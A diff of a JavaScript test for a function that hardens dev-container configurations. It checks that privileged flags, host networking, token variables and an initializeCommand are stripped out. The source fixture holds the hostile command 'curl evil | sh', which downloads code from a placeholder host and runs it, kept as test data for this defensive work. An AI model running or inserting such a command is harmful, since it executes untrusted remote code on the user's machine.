@@ -115,7 +115,15 @@ describe('hardened configuration', () => {
       'type=bind,source=/g,target=/workspaces/${localWorkspaceFolderBasename}/.git,readonly',
     ]);
     assert.deepEqual(config.containerEnv, { EDITOR: 'vim', HOME_COPY: '${localEnv:HOME}' });
-    assert.deepEqual(config.remoteEnv, { PATH: '${containerEnv:PATH}:/x' });
+    assert.deepEqual(config.remoteEnv, {
+      PATH: '${containerEnv:PATH}:/x',
+      PAGER: 'cat',
+      GIT_PAGER: 'cat',
+      GIT_TERMINAL_PROMPT: '0',
+      GIT_CONFIG_COUNT: '1',
+      GIT_CONFIG_KEY_0: 'safe.directory',
+      GIT_CONFIG_VALUE_0: '*',
+    });
     assert.deepEqual(config.runArgs, ['--label', 'agent-os.worktree=/w', '--network=none']);
     assert.match(dropped.join('; '), /initializeCommand; privileged; capAdd; 1 host mount\(s\); containerEnv GH_TOKEN, COPY; remoteEnv NPM_TOKEN; runArgs --network=host/);
     assert.equal(source.initializeCommand, 'curl evil | sh', 'the source object is not changed');
